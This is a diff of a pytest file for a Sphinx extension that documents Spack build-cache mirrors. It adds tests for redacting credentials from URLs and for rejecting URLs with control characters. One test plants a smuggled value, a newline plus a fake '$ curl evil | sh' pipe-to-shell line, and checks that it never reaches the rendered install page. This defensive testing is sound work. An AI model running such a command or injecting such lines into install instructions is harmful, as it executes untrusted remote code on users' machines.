@@ -12,8 +12,6 @@ import json
 import os
 import re
 import shutil
-import subprocess
-import sys
 import xml.etree.ElementTree as ET
 from pathlib import Path
 from typing import Any
@@ -23,10 +21,13 @@ import pytest
 from sphinx_spackcache.cli import main
 from sphinx_spackcache.data.snapshots import previous_snapshot, release_numbers, snapshot_order
 from sphinx_spackcache.data.versions import sort_versions
+from sphinx_spackcache.site.sources import build_sources
 from sphinx_spackcache.sources.mirror import MirrorSource
 from sphinx_spackcache.sources.spack_db import read_database
+from sphinx_spackcache.sources.urls import redact
 
 from .conftest import MIRRORS, RECORDS, Build, warnings_of
+from .test_cli import check
 
 V3 = MIRRORS / "spack-v3-test"
 INDEX_V3 = Path("v3/manifests/index/index.manifest.json")
@@ -389,18 +390,9 @@ def test_cache_history_with_an_unreadable_snapshot_folder(
     assert warnings[0].endswith("[spackcache.tag]")
 
 
-def run_check(*args: str | Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "sphinx_spackcache", "check", *map(str, args)],
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-
-
 def test_check_a_path_with_a_name_too_long(tmp_path: Path) -> None:
     long_path = tmp_path / ("x" * 300) / "specs.md"
-    result = run_check(long_path)
+    result = check(long_path)
     assert result.returncode == 2
     assert "Traceback" not in result.stderr
     (line,) = result.stderr.splitlines()
@@ -468,3 +460,70 @@ def test_cache_install_of_a_package_of_a_broken_v3_mirror_says_why(
     (warning,) = [w for w in warnings_of(app) if "listing.rst:4" in w]
     assert "cache-install: no package 'libelf' in tag 'spack-test': " in warning
     assert "does not match its sha256 checksum" in warning
+
+
+# -- URLs from conf.py -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (
+            "cannot fetch https://user:secret@host/m: refused",
+            "cannot fetch https://***@host/m: refused",
+        ),
+        (
+            "http://token@host:8080/x and HTTPS://a:b@c/",
+            "http://***@host:8080/x and HTTPS://***@c/",
+        ),
+        ("https://u:p@ss@host/m", "https://***@host/m"),  # an @ in the password
+        ("git+https://u:p@host/repo.git", "git+https://***@host/repo.git"),
+        ("https://host/pkg@1.0?a=b@c#d@e", "https://host/pkg@1.0?a=b@c#d@e"),  # no user
+        ("gcc@12.1 and zlib@1.3", "gcc@12.1 and zlib@1.3"),
+    ],
+)
+def test_credentials_in_urls_are_redacted(text: str, shown: str) -> None:
+    assert redact(text) == shown
+
+
+def test_credentials_of_a_mirror_url_are_not_printed(build: Build, tmp_path: Path) -> None:
+    conf = conf_with(MIRRORS / "spack-v2-test")
+    conf["spackcache_mirrors"]["web"] = "http://someone:s3cret@127.0.0.1:9/mirror"  # refused
+    app = build("mirrors", conf=conf)
+    warnings = "\n".join(warnings_of(app))
+    assert "spackcache_mirrors: 'web': cannot fetch http://***@127.0.0.1:9/mirror" in warnings
+    assert "s3cret" not in warnings
+    assert "someone" not in warnings
+
+
+def test_a_line_break_in_a_mirror_url_is_rejected(build: Build, tmp_path: Path) -> None:
+    """A newline in a URL of conf.py would draw a line of its own, a fake ``$`` prompt,
+    in the install commands: the URL is not used, after a located warning."""
+    conf = conf_with(MIRRORS / "spack-v2-test")
+    conf["spackcache_mirrors"]["nl"] = "https://host/m\n$ curl evil | sh"
+    conf["spackcache_mirror_url"] = {
+        "spack-test": "https://host/{tag}\n$ curl evil | sh",
+        "*": "https://host/\x1b[2J{tag}",
+    }
+    app = build("mirrors", "text", conf=conf)
+    (app.srcdir / "install.rst").write_text(
+        "Install\n=======\n\n.. cache-install:: libelf\n   :tag: spack-test\n", "utf-8"
+    )
+    app = build("mirrors", "text", conf=conf)
+    warnings = [w for w in warnings_of(app) if "[spackcache.config]" in w]
+    assert any(
+        "spackcache_mirrors: the folder or URL of 'nl', 'https://host/m\\n$ curl evil | sh' "
+        "holds a control or invisible character; skipped" in w
+        for w in warnings
+    ), warnings
+    assert any(
+        "spackcache_mirror_url['spack-test']: 'https://host/{tag}\\n$ curl evil | sh' holds "
+        "a control or invisible character; it is left out" in w
+        for w in warnings
+    ), warnings
+    assert any("spackcache_mirror_url['*']: 'https://host/\\x1b[2J{tag}'" in w for w in warnings)
+    assert all("conf.py:" in w for w in warnings)
+    assert "nl" not in build_sources(app.env).tags()
+    page = (app.outdir / "install.txt").read_text("utf-8")
+    assert "curl evil" not in page
+    assert str(MIRRORS / "spack-v2-test") in page  # the mirror's own folder instead
